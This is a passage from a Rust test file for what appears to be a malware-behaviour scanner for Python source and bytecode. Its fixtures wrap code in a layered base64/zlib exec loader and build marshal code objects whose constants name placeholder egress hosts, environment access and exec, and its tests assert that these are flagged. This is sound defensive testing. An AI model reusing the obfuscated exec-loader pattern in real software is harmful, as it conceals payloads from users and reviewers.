            "import base64, zlib\ndef run(data):\n    return zlib.decompress(base64.b64decode(data))\nexec(run('{encoded}'))\n"
        );
    }
    text
}

#[test]
fn decoded_code_is_read() {
    for layers in 1..=3 {
        let found = behaviours(&packed(layers));
        for wanted in [
            "fingerprint.hostname socket.gethostname()",
            "egress.endpoint gate.alpha.example",
        ] {
            assert!(found.iter().any(|f| f == wanted), "{layers}: {found:?}");
        }
        assert!(
            found.iter().any(|f| f.starts_with("conceal.packed")),
            "{found:?}"
        );
    }
    let found = behaviours(&packed(5));
    assert!(
        !found.iter().any(|f| f.starts_with("fingerprint")),
        "{found:?}"
    );
}

proptest::proptest! {
    /// Any text is read, and in the same way each time.
    #[test]
    fn any_text_is_read(text in "(def |class |if |x|y| = |\\(|\\)|\\[|\\]|:|\n|    |'|f\"|\\{|\\}|lambda |for |in |\\+|\\.|chr|b64decode|match |case |1|,|\\*|return |import ){0,60}") {
        let first = behaviours(&text);
        proptest::prop_assert_eq!(first, behaviours(&text));
    }
}

/// A little of marshal's form.
fn short(text: &str) -> Vec<u8> {
    let mut out = vec![b'z', text.len() as u8];
    out.extend(text.as_bytes());
    out
}

fn tuple(items: &[Vec<u8>]) -> Vec<u8> {
    let mut out = vec![b')', items.len() as u8];
    out.extend(items.concat());
    out
}

/// A code object as Python 3.`minor` writes it.
fn code(minor: u32, constants: &[Vec<u8>], names: &[&str]) -> Vec<u8> {
    let names: Vec<Vec<u8>> = names.iter().map(|name| short(name)).collect();
    let numbers = if (8..11).contains(&minor) { 6 } else { 5 };
    let mut out = vec![b'c' | 0x80];
    out.extend(vec![0; numbers * 4]);
    let bytes = |len: u8| [vec![b's', len, 0, 0, 0], vec![0; len.into()]].concat();
    out.extend(bytes(4));
    out.extend(tuple(constants));
    out.extend(tuple(&names));
    let rest = if minor >= 11 {
        [tuple(&[]), bytes(0), short("x.py"), short("x"), short("x")].concat()
    } else {
        [
            tuple(&[]),
            tuple(&[]),
            tuple(&[]),
            short("x.py"),
            short("x"),
        ]
        .concat()
    };
    out.extend(rest);
    out.extend([1, 0, 0, 0]);
    out.extend(bytes(2));
    if minor >= 11 {
        out.extend(bytes(0));
    }
    out
}

fn of_bytecode(bytes: &[u8]) -> (Vec<String>, Reading, Option<Gap>, String) {
    let own = [(0, bytes.len() as u64)];
    let read = node::read(
        bytes,
        &own,
        crate::node::Described {
            kind: "python-bytecode",
            path: "x.pyc",
            container: false,
            map: None,
            subject: "",
        },
        node::Mode::Best,
        &mut crate::evaluate::here,
    );
    let found = read
        .raws
        .iter()
        .map(|raw| format!("{} {}", raw.behaviour, raw.key))
        .collect();
    (found, read.reading, read.gap, read.detail)
}

#[test]
fn constants_and_names_of_bytecode_are_read() {
    let encoded =
        "Z2F0ZS5hbHBoYS5leGFtcGxlLHByb3h5LmJldGEudGVzdCxyZWxheS5nYW1tYS5leGFtcGxlLm9yZw==";
    for minor in [6, 7, 8, 10, 11, 13] {
        let inner = code(
            minor,
            &[
                vec![b'N'],
                short("https://api.alpha.example/v1"),
                short("ALPHA_BASE_URL"),
            ],
            &["os", "environ", "get", "getppid", "exec"],
        );
        let whole = code(
            minor,
            &[short(encoded), vec![b'i', 1, 0, 0, 0], inner],
            &["start"],
        );
        for header in [
            Vec::new(),
            [vec![0xa7, 0x0d, b'\r', b'\n'], vec![0; 12]].concat(),
        ] {
            let bytes = [header, whole.clone()].concat();
            let (found, reading, gap, detail) = of_bytecode(&bytes);
            assert_eq!((reading, gap), (Reading::Strings, Some(Gap::Bytecode)));
            assert!(detail.contains("names"), "3.{minor}: {detail}");
            for wanted in [
                "egress.endpoint api.alpha.example",
                "fingerprint.base-url ALPHA_BASE_URL",
                "fingerprint.processes os.getppid()",
                "conceal.dynamic-code builtins.exec()",
                "conceal.encoded-list gate.alpha.example\u{1f}proxy.beta.test\u{1f}relay.gamma.example.org",
            ] {
                assert!(
                    found.iter().any(|f| f == wanted),
                    "3.{minor}: {wanted} is not in {found:?}"
                );
            }
        }
        // Cut short, it is read as text, and nothing breaks.
        for len in 0..whole.len() {
            of_bytecode(&whole[..len]);
        }
    }
}

#[test]
fn references_of_bytecode_cannot_grow() {
    // Each list holds the one before it many times.
    let mut constants = vec![[vec![b')' | 0x80, 1], short("abc")].concat()];
    for level in 1..30u8 {
        let item = [vec![b'r'], vec![level, 0, 0, 0]].concat();
        let mut list = vec![b')' | 0x80, 200];
        list.extend(item.repeat(200));
        constants.push(list);
    }
    let (_, reading, ..) = of_bytecode(&code(11, &constants, &[]));
    assert_eq!(reading, Reading::Strings);
    let deep = [b"(\x01\0\0\0".repeat(100_000), b"N".to_vec()].concat();
    of_bytecode(&[vec![b'c'], deep].concat());
}

proptest::proptest! {
    #[test]
    fn any_bytecode_is_read(bytes in proptest::collection::vec(proptest::num::u8::ANY, 0..200)) {
        of_bytecode(&bytes);
        of_bytecode(&[vec![b'c'; 1], vec![0; 20], bytes].concat());
    }
}
